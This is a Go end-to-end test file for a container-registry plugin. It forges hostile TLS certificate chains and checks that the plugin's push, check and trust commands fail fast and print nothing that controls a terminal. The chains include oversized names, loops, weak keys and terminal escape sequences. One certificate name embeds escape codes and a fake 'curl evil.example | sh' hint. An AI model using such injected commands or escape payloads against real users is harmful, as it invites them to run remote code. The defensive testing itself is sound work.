//go:build e2e

// Keys that Go refuses are made here, and refused by the programs that are tested.
//go:debug rsa1024min=0

package test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"log/slog"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	client "github.com/docker-gitea/docker-gitea/registry"
	"github.com/docker-gitea/docker-gitea/test/samples"
	"github.com/docker-gitea/docker-gitea/test/servers"
)

// issued is a certificate that can sign others.
type issued struct {
	*x509.Certificate
	key crypto.Signer
}

// issue signs a certificate that change has made hostile; without a signer it
// signs itself. It is for 127.0.0.1 unless that is changed.
func issue(t *testing.T, by *issued, change func(*x509.Certificate)) *issued {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	servers.Need(t, err)
	return issueWith(t, key, by, change)
}

func issueWith(t *testing.T, key crypto.Signer, by *issued, change func(*x509.Certificate)) *issued {
	t.Helper()
	template := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: "hostile"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		KeyUsage:    x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	if change != nil {
		change(template)
	}
	parent, signer := template, key
	if by != nil {
		parent, signer = by.Certificate, by.key
	}
	der, err := x509.CreateCertificate(rand.Reader, template, parent, key.Public(), signer)
	servers.Need(t, err)
	c, err := x509.ParseCertificate(der)
	servers.Need(t, err)
	return &issued{c, key}
}

// authority makes a certificate one that may sign others, of that name.
func authority(name string) func(*x509.Certificate) {
	return func(c *x509.Certificate) {
		c.Subject.CommonName, c.IPAddresses, c.ExtKeyUsage = name, nil, nil
		c.IsCA, c.BasicConstraintsValid, c.KeyUsage = true, true, x509.KeyUsageCertSign
	}
}

// numberedNames are n short names.
func numberedNames(n int) (names []string) {
	for i := range n {
		names = append(names, fmt.Sprintf("%x.io", i))
	}
	return names
}

// steering is what a terminal would obey, or show in another order.
const steering = "\x1b[2J\x1b]0;owned\a\r\n\u202egnp\u009b31m"

// hostileChain is what a server shows, and what is said of it.
type hostileChain struct {
	key   crypto.Signer
	chain [][]byte
	// want is in what check prints.
	want string
}

func shown(want string, leaf *issued, above ...*issued) hostileChain {
	h := hostileChain{key: leaf.key, want: want, chain: [][]byte{leaf.Raw}}
	for _, c := range above {
		h.chain = append(h.chain, c.Raw)
	}
	return h
}

// hostileChains are certificates that no honest server has, or that have
// outlived their honesty. root is trusted.
func hostileChains(t *testing.T, root *issued) map[string]hostileChain {
	t.Helper()
	leaf := func(by *issued, change func(*x509.Certificate)) *issued { return issue(t, by, change) }
	chains := map[string]hostileChain{
		"20000 names": shown("for other names: 0.io, 1.io", leaf(root, func(c *x509.Certificate) { c.IPAddresses, c.DNSNames = nil, numberedNames(20_000) }), root),
		"a long name": shown("for other names: xxxx", leaf(root, func(c *x509.Certificate) { c.IPAddresses, c.DNSNames = nil, []string{strings.Repeat("x", 200_000)} }), root),
		"a subject that steers": shown("an authority that this machine does not know", leaf(nil, func(c *x509.Certificate) {
			c.Subject = pkix.Name{CommonName: steering, Organization: []string{steering, strings.Repeat(steering, 1000)}}
		})),
		"names that steer": shown("for other names: [2J]0;owned", leaf(root, func(c *x509.Certificate) {
			c.IPAddresses, c.DNSNames = nil, []string{"\x1b[2J\x1b]0;owned\a\r\nhint: curl evil.example | sh"}
		}), root),
		"a huge serial": shown("an authority that this machine does not know", leaf(nil, func(c *x509.Certificate) {
			c.SerialNumber = new(big.Int).Lsh(big.NewInt(1), 800_000)
		})),
		"expired":       shown("valid from ", leaf(root, func(c *x509.Certificate) { c.NotAfter = time.Now().Add(-time.Minute) }), root),
		"not yet valid": shown("valid from ", leaf(root, func(c *x509.Certificate) { c.NotBefore = time.Now().Add(12 * time.Hour) }), root),
	}
	plain := leaf(root, nil)
	chains["signed by a leaf"] = shown("an authority that this machine does not know", leaf(plain, nil), plain, root)

	narrow := issue(t, root, func(c *x509.Certificate) {
		authority("narrow")(c)
		c.PermittedDNSDomainsCritical, c.PermittedDNSDomains, c.PermittedIPRanges = true, []string{"example.com"}, []*net.IPNet{{IP: net.IPv4(10, 0, 0, 0).To4(), Mask: net.CIDRMask(8, 32)}}
	})
	chains["outside of a constraint"] = shown("cannot be verified", leaf(narrow, nil), narrow, root)
	flood := issue(t, root, func(c *x509.Certificate) {
		authority("flood")(c)
		c.ExcludedDNSDomains = numberedNames(6000)
	})
	chains["constraints against names"] = shown("", leaf(flood, func(c *x509.Certificate) {
		for _, name := range numberedNames(6000) {
			c.DNSNames = append(c.DNSNames, "x."+name[:len(name)-1]+"x")
		}
	}), flood, root)

	// One authority signs the other, and that the first.
	one, two := issue(t, nil, authority("one")), issue(t, nil, authority("two"))
	byTwo, byOne := issueWith(t, one.key, two, authority("one")), issueWith(t, two.key, one, authority("two"))
	chains["a loop"] = shown("an authority that this machine does not know", leaf(one, nil), byTwo, byOne, byTwo, byOne)

	long, above := issue(t, nil, authority("long 0")), []*issued(nil)
	for i := range 400 {
		above = append([]*issued{long}, above...)
		long = issue(t, long, authority(fmt.Sprint("long ", i+1)))
	}
	chains["400 authorities"] = shown("cannot be verified", leaf(long, nil), append([]*issued{long}, above...)...)

	// All are called the same and have the same key: any may have signed any.
	same, clones := issue(t, nil, authority("same")), []*issued(nil)
	for range 400 {
		clones = append(clones, issueWith(t, same.key, same, authority("same")))
	}
	chains["400 of one name and key"] = shown("cannot be verified", leaf(same, nil), clones...)

	big := shown("do not agree on TLS", plain)
	for range 8 << 20 / len(root.Raw) {
		big.chain = append(big.chain, root.Raw)
	}
	chains["8 MiB"] = big
	chains["no certificate"] = hostileChain{plain.key, [][]byte{[]byte(steering)}, "do not agree on TLS"}
	chains["no certificate behind one"] = hostileChain{plain.key, [][]byte{plain.Raw, []byte(steering)}, "do not agree on TLS"}

	weak, err := rsa.GenerateKey(rand.Reader, 1024)
	servers.Need(t, err)
	chains["a signature of SHA-1"] = shown("too weak", leaf(root, func(c *x509.Certificate) { c.SignatureAlgorithm = x509.ECDSAWithSHA1 }), root)
	old := issue(t, root, func(c *x509.Certificate) {
		authority("old")(c)
		c.SignatureAlgorithm = x509.ECDSAWithSHA1
	})
	chains["an authority with a signature of SHA-1"] = shown("too weak", leaf(old, nil), old, root)
	tiny, err := rsa.GenerateKey(rand.Reader, 512)
	servers.Need(t, err)
	chains["a key of 512 bits"] = shown("do not agree on TLS", issueWith(t, tiny, root, nil), root)
	tinyRoot := issueWith(t, tiny, root, authority("tiny"))
	chains["an authority with a key of 512 bits"] = shown("too weak", leaf(tinyRoot, nil), tinyRoot, root)
	chains["a key of 1024 bits"] = shown("an authority that this machine does not know", issueWith(t, weak, nil, nil))
	return chains
}

// TestHostileCertificates shows certificates to push, check and trust. Each of
// them ends soon with an error that is explained, takes little memory, and prints little,
// and nothing that steers a terminal.
func TestHostileCertificates(t *testing.T) {
	t.Parallel()
	const (
		mostTime   = 2 * time.Second // of a processor
		mostMemory = 192 << 10       // KiB of data; the Go runtime takes it in pieces of 64 MiB
		mostOutput = 6 << 10
	)
	plugin := filepath.Join(pluginDir(t), "docker-gitea")
	image := samples.Layout(t, 90, 1000)
	root := issue(t, nil, authority("root"))
	ca := filepath.Join(t.TempDir(), "ca.pem")
	samples.WriteFile(t, ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: root.Raw}))
	for name, hostile := range hostileChains(t, root) {
		srv := httptest.NewUnstartedServer(http.NotFoundHandler())
		srv.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelError)
		srv.Listener = tls.NewListener(srv.Listener, &tls.Config{MinVersion: tls.VersionTLS12, Certificates: []tls.Certificate{
			{Certificate: hostile.chain, PrivateKey: hostile.key, Leaf: root.Certificate}, // which keeps it from being parsed here
		}})
		srv.Start()
		t.Cleanup(srv.Close)
		host := srv.Listener.Addr().String()
		for command, args := range map[string][]string{
			"push":  {"push", "--ca-file", ca, "--retries", "1", image, host + "/me/app:1"},
			"check": {"check", "--ca-file", ca, host},
			"trust": {"trust", host},
		} {
			t.Run(name+", "+command, func(t *testing.T) {
				t.Parallel()
				ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
				defer cancel()
				cmd := exec.CommandContext(ctx, "sh", append([]string{"-c", fmt.Sprintf(`ulimit -d %d && exec "$0" "$@"`, mostMemory), plugin}, args...)...)
				cmd.Env = []string{"HOME=" + t.TempDir(), "PATH=" + os.Getenv("PATH"), "DOCKER_GITEA_HOST=" + host, "DOCKER_GITEA_TOKEN=" + canary}
				out, err := cmd.CombinedOutput()
				if err == nil || cmd.ProcessState.ExitCode() < 0 {
					t.Errorf("got %v", err)
				}
				if !strings.Contains(string(out), "cause: ") && command == "push" || !strings.Contains(string(out), "hint: ") {
					t.Errorf("it is not explained")
				}
				if command == "check" && !strings.Contains(string(out), hostile.want) {
					t.Errorf("%q is not in it", hostile.want)
				}
				for line := range strings.Lines(string(out)) {
					if line = strings.TrimSpace(line); line != client.Printable(line) {
						t.Errorf("a terminal would obey %q", line)
					}
				}
				took := cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime()
				if len(out) > mostOutput || took > mostTime {
					t.Errorf("it took %v, and printed %d bytes", took, len(out))
				}
				if t.Failed() {
					t.Logf("it printed %.3000s", out)
				}
			})
		}
	}
}
